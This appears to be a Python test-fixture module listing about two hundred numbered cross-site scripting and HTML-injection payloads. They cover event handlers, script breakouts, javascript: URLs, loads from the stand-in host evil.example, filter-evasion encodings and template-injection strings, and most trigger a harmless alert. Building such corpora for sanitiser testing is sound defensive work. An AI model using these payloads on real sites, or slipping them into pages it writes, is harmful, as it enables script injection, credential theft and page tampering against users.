"""Two hundred texts that would run a script, load something or change a page, were they ever written unescaped.

Each tells its number: the script by a dialog, what is loaded by its address. § stands for the number.
"""

ELSEWHERE = "evil.example"  # nobody is there

# An element with a handler, for each event that comes about by itself.
_BY_THEMSELVES = (
    "<img src=x onerror=alert(§)>", "<svg onload=alert(§)>", "<body onload=alert(§)>", "<body onpageshow=alert(§)>",
    "<iframe onload=alert(§)></iframe>", "<input autofocus onfocus=alert(§)>", "<select autofocus onfocus=alert(§)>",
    "<textarea autofocus onfocus=alert(§)></textarea>", "<button autofocus onfocus=alert(§)>x</button>",
    "<video src=x onerror=alert(§)></video>", "<audio src=x onerror=alert(§)></audio>",
    "<video><source onerror=alert(§)></video>", "<object data=x onerror=alert(§)></object>",
    "<embed src=x onload=alert(§)>", "<link rel=stylesheet href=x onerror=alert(§)>", "<style onload=alert(§)></style>",
    "<script src=x onerror=alert(§)></script>", "<marquee onstart=alert(§)>x</marquee>",
    "<details open ontoggle=alert(§)>x</details>", "<div id=a tabindex=1 onfocus=alert(§) autofocus>x</div>",
    "<svg><animate onbegin=alert(§) attributeName=x dur=1s>", "<svg><set onbegin=alert(§) attributeName=x>",
    "<svg><image href=x onerror=alert(§)>", "<svg><a><animate attributeName=href values=javascript:alert(§) /></a></svg>",
    "<p style=animation-name:x onanimationstart=alert(§)>x</p>", "<img src=x onerror=alert`§`>",
    "<img src=x onerror=\"top['al'+'ert'](§)\">", "<img src=x onerror=eval(atob('YWxlcnQo')+'§)')>",
    "<img src=x:x onerror=window.onerror=alert;throw[§]>", "<img src onerror=import('//evil.example/§')>",
    "<svg><script>alert(§)</script></svg>", "<svg><script href=data:,alert(§) />", "<svg><style>*{x:y}</style></svg>",
    "<picture><img src=x onerror=alert(§)></picture>", "<image src=x onerror=alert(§)>", "<isindex autofocus onfocus=alert(§)>",
    "<track default src=x onerror=alert(§)>", "<dialog open onclose=alert(§)>x</dialog>",
    "<search hidden=until-found onbeforematch=alert(§)>x</search>", "<xss onscrollend=alert(§) style=overflow:auto>x</xss>",
)  # fmt: skip
_SCRIPTS = (
    "<script>alert(§)</script>", "<SCRIPT>alert(§)</SCRIPT>", "<ScRiPt >alert(§)</sCrIpT >", "<script\n>alert(§)</script\n>",
    "<script/x>alert(§)</script>", "<script\t>alert(§)</script>", "<script\x0c>alert(§)</script>", "<<script>alert(§)//<</script>",
    "<scr<script>ipt>alert(§)</scr</script>ipt>", "<script src=//evil.example/§></script>",
    "<script src=https://evil.example/§.js></script>", "<script src=data:,alert(§)></script>",
    "<script type=module>alert(§)</script>", "<script type=module src=//evil.example/§></script>",
    "<script type=importmap>{\"imports\":{\"x\":\"//evil.example/§\"}}</script>", "<script>alert(§)//", "<script>alert(§)<!--",
    "</script><script>alert(§)</script>", "';</script><script>alert(§)</script>", "</title><script>alert(§)</script>",
    "</textarea><script>alert(§)</script>", "</style><script>alert(§)</script>", "</noscript><script>alert(§)</script>",
    "</option></select><script>alert(§)</script>", "</template><script>alert(§)</script>", "--><script>alert(§)</script>",
    "]]><script>alert(§)</script>", "<![CDATA[><script>alert(§)</script>]]>", "<!--><script>alert(§)</script>-->",
    "<noscript><p title=\"</noscript><script>alert(§)</script>\">", "<math><mtext><script>alert(§)</script></mtext></math>",
    "<table><script>alert(§)</script></table>", "<xml><script>alert(§)</script></xml>", "<template><script>alert(§)</script></template>",
)  # fmt: skip
# Out of an attribute, and out of a script or a style.
_OUT_OF = (
    "\"><script>alert(§)</script>", "'><script>alert(§)</script>", "><script>alert(§)</script>", "\" autofocus onfocus=alert(§) x=\"",
    "' autofocus onfocus=alert(§) x='", " autofocus onfocus=alert(§) ", "\" onmouseover=alert(§) style=\"position:fixed;inset:0\" x=\"",
    "' onmouseover=alert(§) style='position:fixed;inset:0' x='", "\"/><img src=x onerror=alert(§)>", "'/><img src=x onerror=alert(§)>",
    "`><img src=x onerror=alert(§)>", "x\" onerror=\"alert(§)", "x' onerror='alert(§)", "\\\"><svg onload=alert(§)>", "\\';alert(§);//",
    "';alert(§);'", "\";alert(§);\"", "`;alert(§);`", "${alert(§)}", "\\u0027;alert(§);//", "\\x3cscript\\x3ealert(§)\\x3c/script\\x3e",
    "*/alert(§)/*", "\n-->alert(§)", "\u2028alert(§)", "\u2029alert(§)//", "}</style><script>alert(§)</script>", "{}*{background:url(//evil.example/§)}",
    "\" style=\"background:url(//evil.example/§)", "' style='background:url(//evil.example/§)'", "\" src=\"//evil.example/§", "\" srcdoc=\"<script>alert(§)</script>",
    "\" formaction=\"javascript:alert(§)", "\" href=\"javascript:alert(§)", "\" http-equiv=\"refresh\" content=\"0;url=//evil.example/§",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(§)", "JaVaScRiPt:alert(§)", " javascript:alert(§)", "\x01javascript:alert(§)", "java\tscript:alert(§)",
    "java\nscript:alert(§)", "java\rscript:alert(§)", "javascript&colon;alert(§)", "&#106;avascript:alert(§)", "&#x6A;avascript:alert(§)",
    "javascript://%0aalert(§)", "javascript://evil.example/%0aalert(§)", "javascript:/*https://x*/alert(§)", "//javascript:alert(§)",
    "data:text/html,<script>alert(§)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§", "vbscript:msgbox(§)",
    "livescript:alert(§)", "view-source:javascript:alert(§)", "blob:https://evil.example/§", "filesystem:https://evil.example/§", "file:///etc/passwd#§",
    "https://evil.example/§", "//evil.example/§", "/\\evil.example/§", "\\\\evil.example\\§", "https:evil.example/§", "https://x@evil.example/§",
    "[x](javascript:alert(§))", "![x](//evil.example/§)", "<a href=javascript:alert(§)>x</a>", "<a href=\"jav&#x09;ascript:alert(§)\">x</a>",
    "<form action=javascript:alert(§)><input type=submit autofocus></form>", "<iframe src=javascript:alert(§)></iframe>",
)  # fmt: skip
_LOADS = (
    "<img src=//evil.example/§>", "<img srcset='//evil.example/§ 1x'>", "<image href=//evil.example/§>", "<video poster=//evil.example/§></video>",
    "<audio src=//evil.example/§ autoplay></audio>", "<iframe src=//evil.example/§></iframe>", "<iframe srcdoc='<script>alert(§)</script>'></iframe>",
    "<object data=//evil.example/§></object>", "<embed src=//evil.example/§>", "<link rel=stylesheet href=//evil.example/§>",
    "<link rel=preload as=image href=//evil.example/§>", "<link rel=prefetch href=//evil.example/§>", "<link rel=dns-prefetch href=//evil.example/§>",
    "<link rel=icon href=//evil.example/§>", "<link rel=manifest href=//evil.example/§>", "<style>@import '//evil.example/§';</style>",
    "<style>*{background:url(//evil.example/§)}</style>", "<style>@font-face{font-family:x;src:url(//evil.example/§)}*{font-family:x}</style>",
    "<div style=background:url(//evil.example/§)>x</div>", "<body background=//evil.example/§>", "<table background=//evil.example/§><td>x</table>",
    "<svg><image href=//evil.example/§ />", "<svg><use href=//evil.example/§#x />", "<svg><feImage href=//evil.example/§ />",
    "<base href=//evil.example/§/>", "<meta http-equiv=refresh content='0;url=//evil.example/§'>", "<input type=image src=//evil.example/§>",
    "<portal src=//evil.example/§></portal>", "<fencedframe src=//evil.example/§></fencedframe>", "<a href=//evil.example/§ ping=//evil.example/§>x</a>",
)  # fmt: skip
# Written so that somebody who looks for the signs above does not see them, or sees them too late.
_DISGUISED = (
    "&lt;script&gt;alert(§)&lt;/script&gt;", "&#60;script&#62;alert(§)&#60;/script&#62;", "&#x3c;script&#x3e;alert(§)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(§)%3C/script%3E", "%253Cscript%253Ealert(§)%253C/script%253E", "\\u003cscript\\u003ealert(§)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(§)+ADw-/script+AD4-", "＜script＞alert(§)＜/script＞", "‹img src=x onerror=alert(§)›", "<ſcript>alert(§)</ſcript>",
    "<img\u200bsrc=x onerror=alert(§)>", "<im\u00adg src=x onerror=alert(§)>", "\u202e>(§)trela=rorreno x=crs gmi<", "\u2066<img src=x onerror=alert(§)>\u2069",
    "<img src=x\u00a0onerror=alert(§)>", "<scr\x00ipt>alert(§)</scr\x00ipt>", "<img src=x on\x00error=alert(§)>", "\ufeff<script>alert(§)</script>",
    "¼script¾alert(§)¼/script¾", "<script>alert(§)</script>\udcff".replace("\udcff", "\ufffd"), "<ïmg src=x onerror=alert(§)>", "<img/src/onerror=alert(§)>",
    "<svg/onload=alert(§)>", "<svg\x0bonload=alert(§)>", "<svg\x0aonload\x0a=\x0aalert(§)>", "<a/href='j&Tab;avascript:alert(§)'>x",
)  # fmt: skip
# Words of template languages.
_TEMPLATES = (
    "{{ 7|add:§ }}<img src=x onerror=alert(§)>", "{% load static %}{% include 'x§' %}", "{% debug %}§", "{{ request.user.password }}§", "{# § #}",
    "{% endblock %}<script>alert(§)</script>", "{% autoescape off %}<script>alert(§)</script>{% endautoescape %}", "{{constructor.constructor('alert(§)')()}}",
    "<%= alert(§) %>", "#{alert(§)}", "${{7*7}}§", "%(§)s %s {0} {x.__class__}", "<?php echo §; ?><script>alert(§)</script>", "<!--#exec cmd='x§' -->",
    "[[${§}]]<svg onload=alert(§)>", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(§)')}}",
)  # fmt: skip

ALL: tuple[str, ...] = tuple(
    text.replace("§", str(1_000 + number))
    for number, text in enumerate(
        (*_BY_THEMSELVES, *_SCRIPTS, *_OUT_OF, *_ADDRESSES, *_LOADS, *_DISGUISED, *_TEMPLATES)
    )
)
